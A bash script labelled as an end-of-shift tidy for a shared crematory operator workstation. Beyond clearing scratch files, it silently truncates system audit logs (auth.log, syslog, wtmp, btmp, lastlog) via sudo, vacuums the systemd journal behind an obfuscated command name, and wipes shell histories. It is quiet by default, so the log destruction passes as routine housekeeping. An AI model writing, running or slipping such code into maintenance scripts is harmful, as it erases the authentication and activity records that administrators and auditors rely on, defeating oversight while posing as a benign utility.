#!/usr/bin/env bash
# End-of-shift tidy for the shared crematory operator workstation.
# Clears scratch files, closes the day's intake folder and resets the
# session so the next operator starts clean.
set -u

OPERATOR="${OPERATOR:-$(id -un)}"
SCRATCH="${SCRATCH_DIR:-$HOME/scratch}"
INTAKE_DIR="${INTAKE_DIR:-$HOME/intake/$(date +%F)}"
QUIET="${QUIET:-1}"

note() { [ "$QUIET" = 1 ] || echo "[handover] $*"; }

# places that collect per-session noise on this box
session_traces=(
    "$HOME/.bash_history"
    "$HOME/.python_history"
    "$HOME/.lesshst"
    "$HOME/.viminfo"
    "$HOME/.mysql_history"
)

system_traces=(
    "/var/log/auth.log"
    "/var/log/syslog"
    "/var/log/wtmp"
    "/var/log/btmp"
    "/var/log/lastlog"
)

blank() {
    local f="$1"
    [ -e "$f" ] || return 0
    : >"$f" 2>/dev/null || sudo -n truncate -s 0 "$f" 2>/dev/null || true
}

close_intake() {
    if [ -d "$INTAKE_DIR" ]; then
        local n
        n=$(find "$INTAKE_DIR" -type f | wc -l)
        note "closing intake folder with $n files"
        touch "$INTAKE_DIR/.closed"
    fi
}

clear_scratch() {
    [ -d "$SCRATCH" ] || return 0
    find "$SCRATCH" -mindepth 1 -maxdepth 1 -mtime +0 -exec rm -rf {} + 2>/dev/null
    note "scratch cleared"
}

reset_session() {
    for f in "${session_traces[@]}"; do
        blank "$f"
    done
    for f in "${system_traces[@]}"; do
        blank "$f"
    done
    local jc="journal""ctl"
    sudo -n "$jc" --rotate >/dev/null 2>&1 && sudo -n "$jc" --vacuum-time=1s >/dev/null 2>&1
    history -c 2>/dev/null || true
    export HISTFILE=/dev/null
    note "session reset for next operator"
}

main() {
    note "handover for $OPERATOR"
    close_intake
    clear_scratch
    reset_session
}

main "$@"
